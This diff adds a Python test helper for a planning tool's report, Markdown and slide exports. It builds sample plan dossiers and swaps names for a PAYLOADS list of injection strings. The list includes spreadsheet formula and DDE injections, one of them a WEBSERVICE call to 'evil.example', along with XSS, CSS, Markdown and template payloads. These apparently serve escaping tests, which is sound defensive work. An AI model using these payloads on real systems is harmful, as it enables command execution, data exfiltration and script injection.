@@ -1,0 +1,129 @@
+"""Plans for the tests of report, Markdown and slides: made once, and copies of them with other names in them."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+from functools import cache
+from pathlib import Path
+from tempfile import mkdtemp
+
+from models.case import TABLES
+from planner.export.dossier import dossier_of
+from planner.results.table import Table
+from planner.runs import Request, make_plan
+from planner.show.live import Quiet
+from tests.planner.tiny import INPUTS, write_tiny
+
+QUARTERS = (
+    'schema_version = 1\nname = "quarters"\ncurrency_basis = "real"\nstart = "2027Q1"\nperiod = "quarter"\n'
+    "periods = 24\nlookahead_periods = 2\ndiscount_rate = 0.1\n\n[solver]\ngap = 0.001\ntime_limit_s = 30\n"
+)
+GROWING = "workload,period,queries_per_day_million\nchat,2027Q1,8.64\nchat,2028Q1,17\nchat,2029Q3,30\nchat,2031Q1,45\n"
+YEARLY = "budget,categories,span,amount_musd,carry_over\n" + "".join(
+    f"compute,all,{year},{amount},yes\n" for year, amount in zip(range(2027, 2034), (2, 2, 3, 3, 3, 3, 3), strict=True)
+).replace("compute,all,2033,3", "compute,all,2033Q1..2033Q2,3")
+
+PAYLOADS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\tx",
+    "＝1+1",
+    " =1+1",
+    "'=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example","x")',
+    '=WEBSERVICE("http://evil.example")',
+    "=DDE(1;2;3)",
+    '"=1+1"',
+    ";=1+1",
+    "a\n=1+1",
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<a href='javascript:alert(1)'>x</a>",
+    "</style><style>*{display:none}</style>",
+    "<!-- x",
+    "]]><svg onload=alert(1)>\u2028x",
+    "[x](http://evil.example) | *b* _i_ `c` http://evil.example www.evil.example",
+    "${alert(1)} {{7*7}} datum.x' + alert(1) + '",
+)
+FIELDS = {"chat": "workload", "chip": "accelerator", "maker": "vendor", "chip_list": "offer", "home": "site"}
+NOTE = "a note that will be replaced"
+
+
+@cache
+def tiny_dossier():
+    """The plan of the smallest case, with a note on its site."""
+    sites = f'site,power_mw,pue,electricity_usd_per_mwh,note\nhome,1,1,50,"{NOTE}"\n'
+    return dossier_of(run_of(write_tiny(_folder() / "tiny", sites=sites)))
+
+
+@cache
+def quarter_dossier():
+    """A plan of 24 quarters with two of lookahead and yearly budgets that carry over."""
+    folder = write_tiny(
+        _folder() / "quarters",
+        plan=QUARTERS,
+        demand=GROWING,
+        budgets=YEARLY,
+        prices="offer,period,unit_price_usd\nchip_list,2027Q1,100000\n",
+        offers="offer,accelerator,kind,lot_size,lead_time_months\nchip_list,chip,buy,4,5\n",
+        workloads="workload,min_service,penalty_usd_per_1000\nchat,0,5\n",
+    )
+    return dossier_of(run_of(folder))
+
+
+@cache
+def own_dossier():
+    """The plan of the make-or-buy case: an own chip, a company, an agreement, a policy."""
+    return dossier_of(run_of(INPUTS / "make-or-buy-2023", gap=0.01))
+
+
+@cache
+def run_of(case, gap=None):
+    """Makes a plan and returns the folder of its run."""
+    request = Request(output=_folder() / "run", gap=gap, seed=0, command="fleetplan plan")
+    return make_plan(case, request, Quiet()).folder
+
+
+def renamed(dossier, names):
+    """The dossier with names and notes replaced wherever they stand, in the inputs and in the tables."""
+
+    def swapped(value):
+        if isinstance(value, tuple):
+            return tuple(swapped(part) for part in value)
+        return names.get(value, value) if isinstance(value, str) else value
+
+    def row_of(row):
+        return dataclasses.replace(row, **{f.name: swapped(getattr(row, f.name)) for f in dataclasses.fields(row)})
+
+    def cell_of(column, cell):
+        if column == "line" and isinstance(cell, str):
+            what, _, item = cell.partition(" ")
+            return f"{what} {names.get(item, item)}"
+        return swapped(cell)
+
+    case = dossier.case
+    case = dataclasses.replace(case, **{name: tuple(map(row_of, getattr(case, name))) for name in TABLES})
+    tables = {
+        name: Table(
+            name,
+            table.columns,
+            tuple(tuple(cell_of(c, v) for c, v in zip(table.columns, row, strict=True)) for row in table.rows),
+        )
+        for name, table in dossier.tables.items()
+    }
+    return dataclasses.replace(dossier, tables=tables, read=dataclasses.replace(dossier.read, case=case))
+
+
+def with_manifest(dossier, **changes):
+    """The dossier with other facts about the run."""
+    manifest = json.loads(json.dumps(dict(dossier.manifest))) | changes
+    return dataclasses.replace(dossier, manifest=manifest)
+
+
+def _folder():
+    return Path(mkdtemp(prefix="fleetplan-report-"))
